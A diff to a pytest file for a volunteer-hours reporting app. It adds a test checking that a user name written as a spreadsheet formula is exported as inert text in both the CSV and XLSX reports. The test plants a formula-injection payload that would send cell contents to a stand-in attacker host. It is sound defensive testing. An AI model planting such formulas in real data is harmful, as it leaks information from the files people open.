@@ -8,6 +8,7 @@ import re
 from datetime import timedelta
 
 import pytest
+import sqlalchemy as sa
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
@@ -130,3 +131,19 @@ def test_programme_filter_applies_to_every_export(acme, manager_client):
     summary = dict(sections(client.get(f"/reports/export.csv?{query}").get_data(as_text=True))["Summary"][1:])
     assert summary["Verified hours"] == page["hours"] == "2.2"  # 135 minutes = 2.25 h, shown to one decimal
     assert summary["Sessions"] == page["sessions"] == "2"
+
+
+def test_a_formula_in_a_name_is_exported_as_text(acme, manager_client, db):
+    """A volunteer named like a spreadsheet formula must not become one in the manager's download."""
+    _, manager, rows = acme
+    formula = '=HYPERLINK("https://evil.example/?"&B2,"Details")'
+    with db.write() as conn:
+        conn.execute(sa.text("UPDATE users SET name = :n WHERE id = :u"), {"n": formula, "u": rows[0].user_id})
+    client = manager_client(manager)
+
+    volunteers = sections(client.get(f"/reports/export.csv?{QUERY}").get_data(as_text=True))["Volunteers"]
+    assert ["'" + formula] == [row[0] for row in volunteers if "HYPERLINK" in row[0]]
+
+    book = load_workbook(io.BytesIO(client.get(f"/reports/export.xlsx?{QUERY}").get_data()))
+    cells = [row[0] for row in book["Volunteers"].iter_rows(min_row=2) if "HYPERLINK" in str(row[0].value)]
+    assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s")]  # shown as it is, never run
